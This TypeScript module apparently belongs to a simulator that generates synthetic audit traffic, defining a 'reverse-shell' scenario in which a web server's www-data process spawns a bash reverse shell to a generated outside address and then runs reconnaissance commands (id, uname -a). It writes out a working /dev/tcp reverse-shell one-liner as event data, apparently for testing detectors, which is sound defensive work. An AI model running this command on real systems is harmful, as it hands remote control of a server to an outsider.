import { below, pick } from "../../chance/draw.ts";
import type { TrafficEntry } from "../../traffic/scenario.ts";
import type { AuditAttack } from "../act.ts";
import { everySeconds, secondMs, serviceShell, visitOf } from "../act.ts";
import { webHosts } from "../hosts.ts";

/** The web application starts a shell that calls an address outside, and looks around. */
export interface ReverseShell extends TrafficEntry {
  readonly kind: "reverse-shell";
  readonly everySeconds: number;
}

export const reverseShell: AuditAttack<ReverseShell> = {
  role: "attack",
  fields: { everySeconds },
  *visits(entry, { onsetMs, random, freshAddress }) {
    const shell = serviceShell("www-data", pick(random, webHosts).name, "/usr/sbin/php-fpm", random);
    const call = `bash -i >& /dev/tcp/${freshAddress()}/${1024 + below(random, 60_000)} 0>&1`;
    const acts = [
      shell.ran("/bin/bash", "-c", call),
      shell.ran("bash", "-i"),
      shell.ran("id"),
      shell.ran("uname", "-a"),
    ];
    yield visitOf(onsetMs, entry.everySeconds * secondMs, acts);
  },
};
